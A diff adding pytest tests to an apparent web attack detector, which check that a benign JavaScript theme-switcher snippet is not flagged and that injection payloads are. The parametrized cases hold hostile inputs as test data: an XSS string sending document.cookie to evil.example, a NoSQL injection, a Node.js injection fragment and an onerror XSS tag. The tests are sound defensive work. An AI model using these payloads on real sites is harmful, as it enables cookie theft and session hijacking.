@@ -682,6 +682,43 @@ def test_a_readme_s_examples_and_markup_are_no_commands(engine: Engine) -> None:
     )
 
 
+# A JavaScript snippet posted whole, as a question or a gist: code shown, not code run.
+SNIPPET = """Here is how the theme switcher in our docs works; it reads the stored theme
+and falls back to the default when the stored one is not one of ours:
+
+    var theme = localStorage.getItem('theme');
+    if (theme === 'light' || theme == 'dark') {
+        document.getElementById('menu').innerHTML = render(theme);
+    }
+    themes.forEach(function() {
+        if (this.title == theme) { this.classList.add('active'); }
+    });
+    for (let i = 0; i < Math.max(a, b); i++) { draw(i); }
+"""
+
+
+def test_a_javascript_snippet_posted_whole_is_no_attack(engine: Engine) -> None:
+    body = json.dumps({"body": SNIPPET}).encode()
+    request = Request("POST", "/posts", (("Content-Type", "application/json"),), body)
+    assert _types(engine, request) == set()
+
+
+@pytest.mark.parametrize(
+    ("value", "kind"),
+    [
+        ("function() {", "rce"),  # a Node.js injection's own code starting a value
+        ("x';document.location='//evil.example/?'+document.cookie;//", "xss"),
+        ("'; return true; var x='", "nosqli"),
+        # In a document, markup still runs.
+        (SNIPPET + "<img src=x onerror=alert(1)>", "xss"),
+    ],
+)
+def test_script_on_one_line_or_in_markup_is_still_found(
+    engine: Engine, value: str, kind: str
+) -> None:
+    assert kind in _types(engine, Request("GET", "/a?q=" + quote(value, safe="")))
+
+
 @pytest.mark.parametrize(
     "value",
     [
